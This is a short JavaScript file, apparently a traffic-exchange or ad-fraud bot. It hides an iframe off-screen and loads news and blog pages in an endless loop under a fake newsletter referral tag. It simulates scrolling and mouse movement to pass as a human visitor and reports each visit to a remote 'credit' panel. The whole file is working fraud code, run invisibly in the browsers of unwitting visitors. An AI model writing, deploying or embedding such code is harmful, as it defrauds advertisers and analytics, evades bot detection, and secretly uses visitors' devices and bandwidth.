const plan = [
  { url: 'https://news-a.example/sport', stay: 48 },
  { url: 'https://news-a.example/moda', stay: 35 },
  { url: 'https://blog-tech.example/review-hp', stay: 62 },
];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function humanScroll(w, seconds) {
  const end = Date.now() + seconds * 1000;
  while (Date.now() < end) {
    w.scrollBy({ top: 80 + Math.random() * 240 * (Math.random() > 0.2 ? 1 : -1), behavior: 'smooth' });
    w.document.dispatchEvent(new MouseEvent('mousemove', { clientX: Math.random() * 800, clientY: Math.random() * 500, bubbles: true }));
    await sleep(700 + Math.random() * 2600);
  }
}
(async function surf() {
  const fr = document.createElement('iframe');
  Object.assign(fr.style, { position: 'fixed', left: '-5000px', width: '1366px', height: '768px', opacity: '0.01' });
  document.body.appendChild(fr);
  for (;;) {
    const step = plan[Math.floor(Math.random() * plan.length)];
    fr.src = step.url + '?utm_source=newsletter&r=' + Math.random().toString(36).slice(2);
    await new Promise((r) => { fr.onload = r; setTimeout(r, 15000); });
    await humanScroll(fr.contentWindow, step.stay).catch(() => {});
    navigator.sendBeacon('https://panel.surf-ex.example/credit', JSON.stringify({ u: step.url, s: step.stay }));
  }
})();
